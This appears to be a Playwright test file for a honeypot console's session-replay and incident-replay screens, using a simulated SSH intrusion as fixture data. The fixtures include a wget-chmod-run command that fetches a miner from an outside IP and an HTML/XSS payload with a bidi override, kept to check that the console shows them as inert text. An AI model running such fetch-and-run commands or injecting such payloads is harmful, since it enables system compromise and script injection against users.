import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { type ConsoleLab, openConsole, until } from '../support/console/open.ts';
import { ttyLog } from '../support/tty-log.ts';

const startMs = Date.now() - 3_600_000;
const event = (id: string, afterMs: number, payload: string, activity = 'command') => ({
  event_id: id,
  service: 'ssh',
  source_ip: '203.0.113.9',
  activity,
  payload,
  timestamp: new Date(startMs + afterMs).toISOString(),
  extra: { session: 'c04f' },
});
const hostile = '<img src=x onerror=alert(1)>\u202Egpj';

/** A visit with a pause of half an hour in it. */
const visit = [
  event('v-1', 0, 'root:hunter2', 'login_success'),
  event('v-2', 1000, 'uname -a'),
  event('v-3', 1_800_000, 'wget http://203.0.113.80/miner -O /tmp/m; chmod +x /tmp/m; /tmp/m'),
  event('v-4', 1_801_000, `echo '${hostile}'`),
];

async function openSession(lab: ConsoleLab, options?: Parameters<ConsoleLab['open']>[1]): Promise<Page> {
  const page = await lab.open(`/sessions/${encodeURIComponent(`${lab.node.id}~c04f`)}`, options);
  await page.getByRole('heading', { name: 'Transcript' }).waitFor();
  return page;
}

const bar = (page: Page) => page.getByRole('region', { name: 'Replay' });
async function playToTheEnd(page: Page): Promise<void> {
  await bar(page).getByLabel('Pace').selectOption('16');
  await bar(page).getByRole('button', { name: 'Play', exact: true }).waitFor();
}

async function record(lab: ConsoleLab): Promise<void> {
  const { status } = await fetch(`${lab.server.address}/api/recordings/c04f`, {
    method: 'POST',
    headers: { 'x-node-key': lab.node.key },
    body: ttyLog(startMs, [
      [0, 'root@nas:~# '],
      [900, '>uname -a\r'],
      [1000, 'uname -a\r\nLinux nas 5.10\r\n'],
      [1_799_000, '\x1b[H\x1b[2J'],
      [1_800_500, `\x1b[31m${hostile}\x1b[0m\r\n`],
    ]),
  });
  assert.equal(status, 200);
}

describe('a replay', () => {
  it('plays the terminal of a session and its events with their judgement, at a chosen pace', async (t) => {
    const lab = await openConsole(t, { events: visit });
    await record(lab);
    const page = await openSession(lab);
    const steps = page.getByRole('list', { name: 'Transcript' }).getByRole('listitem');
    assert.equal(await steps.count(), 4);
    await page.getByRole('button', { name: 'Replay' }).click();
    await page.waitForURL(/replay=c04f/);
    const terminal = page.getByRole('region', { name: 'Terminal' });
    await terminal.getByText('root@nas:~#').waitFor();
    await bar(page).getByRole('button', { name: 'Pause' }).click();
    assert.ok((await steps.count()) < 4);
    await lab.check(page);
    await playToTheEnd(await resumed(page));
    assert.equal(await steps.count(), 4);
    // What was wiped away stays, and what they sent is text.
    const said = (await terminal.textContent()) ?? '';
    assert.match(said, /Linux nas 5\.10/);
    assert.ok(said.includes('<img src=x onerror=alert(1)>\\u202egpj'), said);
    await page.getByText('uname -a\\r').waitFor();
    await lab.check(page);

    // Back to the beginning, a step at a time, and with the pause of half an hour.
    const position = bar(page).getByRole('slider', { name: 'Position' });
    await position.focus();
    await page.keyboard.press('Home');
    await until(async () => (await steps.count()) === 1);
    assert.ok(!(await terminal.textContent())?.includes('Linux nas'));
    await bar(page).getByRole('button', { name: 'One step on' }).click();
    await bar(page).getByRole('button', { name: 'One step on' }).click();
    await until(async () => (await steps.count()) === 2);
    await bar(page).getByRole('button', { name: 'One step back' }).click();
    await until(async () => (await steps.count()) === 1);
    await bar(page).getByText('Cut long pauses').click();
    await bar(page).getByText('of 30:01').waitFor();
    await bar(page).getByRole('button', { name: 'End the replay' }).click();
    await until(async () => (await steps.count()) === 4);

    const audit = await lab.server.call<{ items: { kind: string }[] }>('GET', '/api/audit', {
      headers: lab.user.headers,
    });
    assert.equal(audit.body.items.filter(({ kind }) => kind === 'Recording played').length, 1);
  });

  it('plays the events of a session that has no recording, on a phone and in the dark', async (t) => {
    const lab = await openConsole(t, { events: visit });
    const page = await openSession(lab, { width: 390, height: 844, theme: 'dark' });
    await page.getByRole('button', { name: 'Replay' }).click();
    await page.getByText('No recording of the terminal came').waitFor();
    await playToTheEnd(page);
    assert.equal(await page.getByRole('region', { name: 'Terminal' }).count(), 0);
    const steps = page.getByRole('list', { name: 'Transcript' }).getByRole('listitem');
    assert.equal(await steps.count(), 4);
    const wide = await page.evaluate('document.documentElement.scrollWidth - window.innerWidth');
    assert.ok(Number(wide) <= 0, `scrolls sideways by ${wide} px`);
    await lab.check(page);
  });

  it('tells the story of an incident again', async (t) => {
    const lab = await openConsole(t, { events: visit });
    const incidents = await lab.server.call<{ items: { incident_id: string }[] }>('GET', '/api/incidents', {
      headers: lab.user.headers,
    });
    const id = incidents.body.items[0]?.incident_id ?? '';
    const page = await lab.open(`/incidents/${id}`);
    const story = page.getByRole('list', { name: 'What happened' }).getByRole('listitem');
    await story.first().waitFor();
    const all = await story.count();
    assert.ok(all > 3);
    await page.getByRole('button', { name: 'Replay' }).click();
    await bar(page).getByRole('button', { name: 'Pause' }).click();
    assert.ok((await story.count()) < all);
    await lab.check(page);
    await playToTheEnd(await resumed(page));
    assert.equal(await story.count(), all);
    await bar(page).getByRole('button', { name: 'End the replay' }).click();
    await page.getByRole('button', { name: 'Replay' }).waitFor();
  });
});

async function resumed(page: Page): Promise<Page> {
  await bar(page).getByRole('button', { name: 'Play', exact: true }).click();
  return page;
}
